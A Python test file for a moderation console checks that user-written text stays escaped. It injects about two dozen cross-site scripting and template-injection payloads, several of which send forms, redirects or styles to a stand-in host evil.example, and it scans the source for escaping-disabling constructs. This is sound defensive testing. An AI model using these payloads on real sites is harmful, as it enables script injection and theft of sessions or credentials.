"""Whatever a poster writes stays text: the corpus of tricks goes through the one door, the store and every page."""

from __future__ import annotations

from collections import Counter
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from lxml import html

from api.console.pages import HERE
from records.score import Finding, Reason
from store.scores import set_threshold
from store.seal import Vault
from tests.builders import MODEL, a_score, an_open_flag
from tests.conftest import Database
from tests.integration.console_lab import Console, a_console

HARMLESS = "xin chào cả nhà"
TRICKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)>",
    "'><iframe srcdoc='<script>alert(1)</script>'>",
    "</mark></div></main><form action=https://evil.example><input name=csrf>",
    "</title><base href=https://evil.example>",
    "<a href=javascript:alert(1)>xem</a>",
    "javascript:alert(1)//\nhttps://evil.example/",
    "<style>*{background:url(https://evil.example)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "{{ 7*7 }}{% raw %}{{ session.csrf_token }}",
    "%(count)s %(num)s %s {0} ${7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
    "<!-- --><![CDATA[<b>]]><?xml version='1.0'?>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<ScRiPt\u0000>alert(1)</sCrIpT>",
    "\u202e<b>ngược</b>\u202c\u2066",
    "\" autofocus onfocus=alert(1) x=\"",
    "' onmouseover='alert(1)",
    "`${alert(1)}`",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "＜script＞alert(1)＜/script＞",
    "<x" + "a" * 300 + " onclick=alert(1)>",
)  # fmt: skip


@pytest.fixture
async def console(db: Database, vault: Vault) -> AsyncIterator[Console]:
    async with a_console(db, vault) as made:
        yield made


def _shape(page: html.HtmlElement) -> Counter[tuple[str, tuple[str, ...]]]:
    """Every element with the names of its attributes; our own signs for the unseen and for masks do not count."""
    shape: Counter[tuple[str, tuple[str, ...]]] = Counter()
    for element in page.iter():
        if not isinstance(element.tag, str):
            shape["<comment>", ()] += 1
        elif element.get("class") not in ("unseen", "kind"):
            shape[element.tag, tuple(sorted(element.keys()))] += 1
    return shape


async def _pages(console: Console, vault: Vault, said: str, reader_name: str) -> list[html.HtmlElement]:
    """Every page on which what somebody wrote is shown, for a post, reviewer and reason that all say it."""
    score = a_score(
        findings=(Finding("unrealistic_pay", 0, 6, 1.0), Finding("vague_offer", 3, 9, 0.5)),
        reasons=(Reason(0, 12, 0.8), Reason(2, 14, -0.8)),
        risk=1,
    )
    flag_id = await an_open_flag(
        console.conn,
        vault,
        said + " " + HARMLESS,
        score=score,
        title=said + HARMLESS,
        author_name=said,
        channel=said,
        url="https://nhom.mau.example/" + said,
    )
    reader = await console.signed_in(reader_name, display_name=said.replace("\0", ""))
    pages = [reader.page]
    await reader.open("/console/queue")
    pages.append(reader.page)
    await reader.open(f"/console/flags/{flag_id}")
    pages.append(reader.page)
    await reader.submit(f"/console/flags/{flag_id}/take")
    pages.append(reader.page)
    fields = reader.fields(f"/console/flags/{flag_id}/decide")
    await reader.post(f"/console/flags/{flag_id}/decide", fields | {"reason": said + " đủ dài"})
    pages.append(reader.page)
    await reader.post(f"/console/flags/{flag_id}/decide", fields | {"reason": said + " đủ dài", "verdict": "unsure"})
    await reader.open(f"/console/flags/{flag_id}")
    pages.append(reader.page)
    await reader.post(f"/console/flags/{flag_id}/decide", fields | {"reason": said + " đủ dài", "verdict": "refer"})
    pages.append(reader.page)
    await reader.post("/console/sign-in", {"username": said, "csrf": said})
    pages.append(reader.page)
    await console.conn.execute(
        "update flag set state = 'closed', closed_at = now(), taken_by = null, lease_until = null"
    )
    await console.conn.commit()
    return pages


async def test_no_trick_adds_an_element_or_an_attribute_to_any_page(console: Console, vault: Vault) -> None:
    plain = [_shape(page) for page in await _pages(console, vault, HARMLESS, "nguoidoc")]
    for number, written in enumerate(TRICKS):
        # A host of its own for each, or the page would rightly say that other posts share a contact.
        trick = written.replace("evil.example", f"evil{number}.example")
        pages = await _pages(console, vault, trick, f"nguoidoc{number}")
        for place, (page, shape) in enumerate(zip(pages, plain, strict=True)):
            assert _shape(page) == shape, (trick, place)
            assert "49" not in page.xpath("string(//*[@id='post-text'])"), trick


async def test_a_trick_in_the_reason_of_a_threshold_is_text(console: Console, vault: Vault) -> None:
    trick = "<img src=x onerror=alert(1)>"
    flag_id = await an_open_flag(console.conn, vault, score=a_score(0.62, risk=1))
    threshold_id = await set_threshold(console.conn, MODEL, 0.55, trick)
    await console.conn.execute("update flag set threshold_id = %s", [threshold_id])
    reader = await console.signed_in()
    await reader.open(f"/console/flags/{flag_id}")
    assert trick in reader.text
    assert not reader.page.xpath("//img")


def test_nothing_in_the_console_switches_escaping_off() -> None:
    forbidden = ("|safe", "| safe", "Markup(", "autoescape false", "innerHTML", "outerHTML", "document.write", "eval(",
                 "insertAdjacentHTML", " style=", "onclick", "http://", "https://")  # fmt: skip
    files = [path for path in HERE.rglob("*") if path.suffix in {".py", ".html", ".js", ".css"}]
    assert len(files) > 20
    found = {(path.name, word) for path in files for word in forbidden if word in _code(path)}
    assert found == set()


def _code(path: Path) -> str:
    """The file without the one place that spells a defanged link in its docstring."""
    return path.read_text(encoding="utf-8").replace("hxxps://", "")
